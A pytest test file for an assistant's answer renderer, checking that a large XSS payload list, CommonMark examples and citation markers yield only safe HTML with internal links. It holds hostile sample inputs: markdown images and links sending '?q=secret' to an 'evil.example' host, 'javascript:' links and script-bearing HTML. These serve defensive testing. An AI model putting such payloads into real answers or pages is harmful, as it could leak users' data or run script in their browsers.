from __future__ import annotations

import re
import time
from pathlib import Path

import nh3
import pytest

from assistant.web import rendering
from assistant.web.rendering import render_answer
from tests.web.markup import Elements, dangers_in

LINKS = {
    1: ["/documents/a/?start=1#passage", "/documents/a/?start=9#passage"],
    2: ["/documents/b/"],
}
OURS = ("/documents/",)


def payloads(shared_data: Path) -> list[str]:
    folder = shared_data / "security" / "xss_payload_list"
    lines = (folder / "Intruder" / "xss-payload-list.txt").read_text(errors="replace").splitlines()
    return [line for line in lines if line.strip()]


def commonmark_examples(shared_data: Path) -> list[str]:
    spec = (shared_data / "security" / "commonmark" / "spec.txt").read_text()
    fence = "`" * 32
    found = re.findall(rf"^{fence} example\n(.*?)\n\.\n", spec, re.MULTILINE | re.DOTALL)
    return [example.replace("→", "\t") for example in found]


def test_no_payload_becomes_markup(shared_data: Path) -> None:
    tried = payloads(shared_data)
    assert len(tried) > 6000
    for payload in tried:
        contexts = (
            payload,
            f"**{payload}** [1]",
            f"[{payload}]({payload})",
            f"|a|\n|-|\n|{payload}|",
        )
        html = render_answer("\n\n".join(contexts), LINKS)
        assert dangers_in(html, allowed_links=OURS) == [], payload


def test_the_finder_of_dangers_finds_them(shared_data: Path) -> None:
    """Most payloads are dangerous as they stand: else the test above proves nothing."""
    dangerous = [payload for payload in payloads(shared_data) if dangers_in(payload)]
    assert len(dangerous) > 5000


def test_commonmark_examples_stay_harmless(shared_data: Path) -> None:
    examples = commonmark_examples(shared_data)
    assert len(examples) > 600
    for example in examples:
        assert dangers_in(render_answer(example, LINKS), allowed_links=OURS) == [], example


@pytest.mark.parametrize(
    "text",
    [
        "![chart](http://evil.example/?q=secret)",
        "![chart][x]\n\n[x]: http://evil.example/?q=secret",
        "[see](http://evil.example/?q=secret)",
        "<http://evil.example/?q=secret>",
        "[1]: http://evil.example/\n\nAs stated [1].",
        "[1](http://evil.example/)",
        "[1](javascript:alert(1))",
        "<a href='http://evil.example'>1</a>",
        "[/documents/](//evil.example/documents/)",
    ],
)
def test_nothing_leads_or_loads_elsewhere(text: str) -> None:
    html = render_answer(text, LINKS)
    assert dangers_in(html, allowed_links=OURS) == []
    assert "<img" not in html


def test_the_address_of_a_foreign_link_is_readable() -> None:
    html = render_answer("[our site](http://evil.example/x)", {})
    assert Elements(html).text.strip() == "our site (http://evil.example/x)"


def test_markers_link_to_their_own_quote_in_the_order_of_the_text() -> None:
    html = render_answer("One [1]. Two [2]. Three [1]. Four [1].", LINKS)
    links = Elements(html).with_tag("a")
    assert [(link["href"], link["data-number"]) for link in links] == [
        ("/documents/a/?start=1#passage", "1"),
        ("/documents/b/", "2"),
        ("/documents/a/?start=9#passage", "1"),
        ("/documents/a/?start=9#passage", "1"),
    ]
    assert {link["class"] for link in links} == {"cite"}


@pytest.mark.parametrize(
    "text", ["Unknown [7].", "Code `[1]`.", "    [1]", "Mixed [1, 7].", "[0001]"]
)
def test_what_is_no_known_marker_stays_text(text: str) -> None:
    html = render_answer(text, LINKS)
    assert Elements(html).with_tag("a") == []
    assert re.search(r"\[[0-9, ]+\]", Elements(html).text)


def test_several_numbers_in_one_pair_of_brackets() -> None:
    assert [
        a["data-number"] for a in Elements(render_answer("Yes [1, 2].", LINKS)).with_tag("a")
    ] == [
        "1",
        "2",
    ]


def test_formatting_survives() -> None:
    html = render_answer(
        "# A\n\n**b** *c* ~~d~~ `e`\n\n1. f\n   - g\n\n| h |\n|---|\n| i |\n\n> j", {}
    )
    tags = {tag for tag, _ in Elements(html).found}
    assert {
        "h1",
        "strong",
        "em",
        "s",
        "code",
        "ol",
        "ul",
        "li",
        "table",
        "th",
        "td",
        "blockquote",
    } <= tags
    assert '<div class="table-wrap">' in html


def test_sanitising_is_the_last_step(monkeypatch: pytest.MonkeyPatch) -> None:
    """What nh3 returns is what is shown: nothing is added behind it."""
    monkeypatch.setattr(nh3, "clean", lambda html, **_: "<p>cleaned</p>")
    assert render_answer("**text** [1]", LINKS) == "<p>cleaned</p>"


def test_the_sanitiser_alone_would_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    """With a parser that lets HTML through, the allow-list still removes all of it."""
    hostile = (
        '<img src=x onerror=alert(1)><a href="javascript:alert(1)" onclick=x>a</a>'
        "<p style=x class=y>z</p><svg><script>alert(1)</script></svg>"
    )
    monkeypatch.setattr(rendering._PARSER.renderer, "render", lambda *_: hostile)
    assert dangers_in(hostile)
    assert dangers_in(render_answer("x", {})) == []


def test_time_grows_with_the_text_not_faster() -> None:
    """Fuzz of nesting: a hostile text must not hold the process."""

    def seconds(text: str) -> float:
        started = time.process_time()  # whatever else the machine does
        render_answer(text, LINKS)
        return time.process_time() - started

    for piece in ("[1", "**a", "> ", "[x](", "`", "| a ", "![", "<a"):
        assert seconds(piece * 4000) < 3.0, piece
